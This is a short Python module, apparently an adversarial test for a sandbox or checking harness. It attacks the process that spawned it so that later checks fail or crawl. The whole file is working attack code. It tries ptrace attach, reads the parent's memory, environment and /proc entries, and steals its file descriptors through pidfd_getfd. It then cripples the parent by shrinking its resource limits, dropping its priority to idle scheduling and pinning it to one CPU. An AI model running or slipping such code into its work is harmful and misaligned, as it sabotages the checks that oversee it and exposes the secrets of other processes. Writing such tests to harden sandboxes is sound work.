"""Meddles with the process that it was forked from, so that the checks to come fail or crawl: limits, priority, memory."""

import ctypes
import os
import resource


def attack():
    if not os.path.exists("/worker.py"):
        raise SystemExit("only in the sandbox")
    parent, done = os.getppid(), []
    PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(16)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16)
    there = (ctypes.c_size_t * 2)(0x10000, 16)
    if libc.ptrace(PTRACE_SEIZE, parent, None, None) == 0 or libc.ptrace(PTRACE_ATTACH, parent, None, None) == 0:
        done.append("traced")
    if libc.process_vm_readv(parent, vector, 1, there, 1, 0) == -1 and ctypes.get_errno() != 1:
        done.append(f"read its memory ({ctypes.get_errno()})")
    for name in ("mem", "fd/0", "fd/1", "fd/3", "environ", "maps"):
        try:
            with open(f"/proc/{parent}/{name}", "rb") as file:
                file.read(1)
            done.append(f"opened {name}")
        except OSError:
            pass
    try:
        descriptor = os.pidfd_open(parent)
        for number in range(64):
            if libc.syscall(438, descriptor, number, 0) >= 0:  # pidfd_getfd
                done.append(f"took descriptor {number}")
    except (OSError, AttributeError):
        pass
    print("attack: its memory and descriptors:", done or "nothing", flush=True)
    for limit, value in [(resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_AS, 2**20), (resource.RLIMIT_NPROC, 0)]:
        try:
            resource.prlimit(parent, limit, (value, value))
        except OSError:
            pass
    for change in (
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(parent, {0}),
    ):
        try:
            change()
        except OSError:
            pass
